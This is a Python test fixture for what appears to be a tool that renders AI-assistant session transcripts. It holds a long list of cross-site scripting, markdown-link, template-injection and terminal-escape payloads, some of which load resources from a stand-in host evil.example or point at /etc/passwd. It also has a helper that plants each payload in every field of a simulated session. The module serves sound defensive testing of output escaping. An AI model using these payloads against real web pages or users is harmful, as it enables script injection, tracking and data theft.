"""Hostile words: what a transcript may hold to run a script, load something, or draw what is not there.

`everywhere(payload)` is a session with the words in every place that a page shows; `PAYLOADS` are the words. Each that would
run calls `pwned`, so a browser can tell.
"""

from __future__ import annotations

import base64

from clew.demo.talk import Talk, ToolInput, bash, edit, plan, read, talk, task, todo, tool, write

_SVG = base64.b64encode(b"<svg xmlns='http://www.w3.org/2000/svg' onload='pwned()'/>").decode()

TAGS = (
    "<script>pwned()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>pwned()</scr</script>ipt>",
    "</script><script>pwned()</script>",
    "</style><script>pwned()</script>",
    "</title><script>pwned()</script>",
    "</textarea><script>pwned()</script>",
    "</pre></code></details></section><script>pwned()</script>",
    "--><script>pwned()</script><!--",
    "<!--><script>pwned()</script>-->",
    "]]><script>pwned()</script>",
    "<?php echo 1 ?><script>pwned()</script>",
    "<img src=x onerror=pwned()>",
    "<img src=x onerror='pwned()'//",
    '<img src="https://evil.example/pixel.png">',
    "<image src=x onerror=pwned()>",
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<svg/onload=pwned()//",
    "<math><mtext></p><style><img src=x onerror=pwned()></style></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'></noscript>",
    "<template><script>pwned()</script></template>",
    "<body onload=pwned()>",
    "<html onmouseover=pwned()>",
    "<iframe src=javascript:pwned()></iframe>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<object data=javascript:pwned()></object>",
    "<embed src=javascript:pwned()>",
    "<video><source onerror=pwned()></video>",
    "<audio src=x onerror=pwned()>",
    "<input autofocus onfocus=pwned()>",
    "<details open ontoggle=pwned()>x</details>",
    "<marquee onstart=pwned()>x</marquee>",
    "<form action=javascript:pwned()><button>x</button></form>",
    "<button formaction=javascript:pwned()>x</button>",
    "<a href=javascript:pwned()>x</a>",
    '<a href="x" onclick="pwned()">x</a>',
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';*{display:none}</style>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<p id=turn-1 name=clew>x</p>",
    "<x onpointerenter=pwned() style=position:fixed;inset:0>x</x>",
)
BREAKS = (
    '"><script>pwned()</script>',
    "'><script>pwned()</script>",
    '" onmouseover="pwned()" x="',
    "' onfocus='pwned()' autofocus x='",
    "` onmouseover=pwned() `",
    '"><img src=x onerror=pwned()>',
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "&#60;script&#62;pwned()&#60;/script&#62;",
    "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
    "＜script＞pwned()＜/script＞",
    "{{constructor.constructor('pwned()')()}}",
    "${pwned()}",
    "<%= pwned() %>",
    "\x00<script>pwned()</script>",
    "<scr\x00ipt>pwned()</scr\x00ipt>",
    "<\x1b[0mscript>pwned()</\x1b[0mscript>",
)
MARKDOWN = (
    "[x](javascript:pwned())",
    "[x](JaVaScRiPt:pwned())",
    "[x](javascript&colon;pwned())",
    "[x](java\nscript:pwned())",
    "[x](&#106;avascript:pwned())",
    "[x](<javascript:pwned()>)",
    "[x](\x01javascript:pwned())",
    "[x](vbscript:pwned())",
    "[x](data:text/html,<script>pwned()</script>)",
    f"[x](data:image/svg+xml;base64,{_SVG})",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/x)",
    "[x](blob:https://evil.example/1)",
    '[x](https://evil.example/"onmouseover="pwned())',
    "[x](https://evil.example/ \"'onmouseover='pwned()\")",
    "[x]: javascript:pwned()\n\n[x]",
    "<javascript:pwned()>",
    '<https://evil.example/"onclick=pwned()>',
    "![x](javascript:pwned())",
    "![x](https://evil.example/pixel.png)",
    f"![x](data:image/svg+xml;base64,{_SVG})",
    '![x" onerror="pwned()](https://evil.example/x)',
    "[![x](https://evil.example/p.png)](javascript:pwned())",
    '```"><script>pwned()</script>\nx\n```',
    "```html\n<script>pwned()</script>",
    "~~~\n</code></pre><script>pwned()</script>\n~~~",
    "`<script>pwned()</script>`",
    "| a |\n|---|\n| <img src=x onerror=pwned()> |",
    "# <img src=x onerror=pwned()>",
    "> <img src=x onerror=pwned()>",
    "- <script>pwned()</script>\n  - </ul><script>pwned()</script>",
    "*" * 400 + "<script>pwned()</script>",
    "> " * 300 + "<script>pwned()</script>",
    "[" * 300 + "x](javascript:pwned())",
    "<details>\n\n</details></details><script>pwned()</script>",
    "---\ntitle: x\n---\n<script>pwned()</script>",
    "[[x|javascript:pwned()]] %%x%% ![[../secret]]",
)
TERMINAL = (
    "\x1b]8;;javascript:pwned()\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]0;<script>pwned()</script>\x07",
    "\x1b[31m<script>pwned()</script>\x1b[0m",
    '\x1b[31;"><script>pwned()</script>m',
    "\x1b[38;2;1;2;3m<img src=x onerror=pwned()>",
    "\x1b[999999999999999999999m<b>",
    "\x1b]52;c;cHduZWQ=\x07",
    "\u202e</script><tpircs/>pwned()\u202c",
    "a\u2066<b>\u2069\u2028\u2029",
    "x\x9b31m<script>pwned()</script>",
)
PAYLOADS = (*TAGS, *BREAKS, *MARKDOWN, *TERMINAL)


def everywhere(payload: str, number: int = 0) -> Talk:
    """A session with the payload in every place."""
    told = talk(seed=f"payload {number}", cwd=f"/home/ada/{payload}", branch=payload, version="2.1.232", model=payload)
    told = told.user(payload).reply(f"left {payload}").rewind(to=1)
    told = told.user(payload, images=[payload.encode("utf-8", "replace")])
    told = told.user([{"type": "text", "text": "see"}, _image(payload, payload), _image("image/png", payload)])
    told = told.user(payload, meta=True)
    told = told.reply(payload, thinking=payload, call=bash(payload, payload)).result(payload)
    told = told.reply(f"words\n\n{payload}\n\nwords", call=bash(f"a\n{payload}")).result(payload, error=True)
    told = told.reply(call=read(f"/x/{payload}", payload)).result()
    told = told.reply(call=edit(f"/x/{payload}", payload, f"{payload} more")).result()
    told = told.reply(call=write(f"/y/{payload}", payload)).result()
    told = told.reply(call=todo([payload, (payload, payload)])).result()
    told = told.reply(call=plan(payload)).result()
    told = told.reply(call=ToolInput(payload, {payload: payload, "list": [payload]}, id=payload)).result(payload)
    told = told.reply(call=tool(f"mcp__{payload}__{payload}", query=payload)).result(
        [{"type": "text", "text": payload}, _image(payload, payload)]
    )
    child = talk(seed=f"child {number}", model=payload).user(payload).reply(payload, call=bash(payload)).result(payload)
    told = told.reply(call=task(payload, payload, payload)).agent(0, child.reply(payload), agent_type=payload)
    told = told.api_error(payload).system("informational", content=payload).system(payload, content=payload)
    told = told.command(payload, payload, payload).reply(payload).compact(payload, trigger=payload)
    return told.user(payload).reply(payload, model=payload).title(payload)


def _image(media_type: str, data: str) -> dict[str, object]:
    return {"type": "image", "source": {"type": "base64", "media_type": media_type, "data": data}}
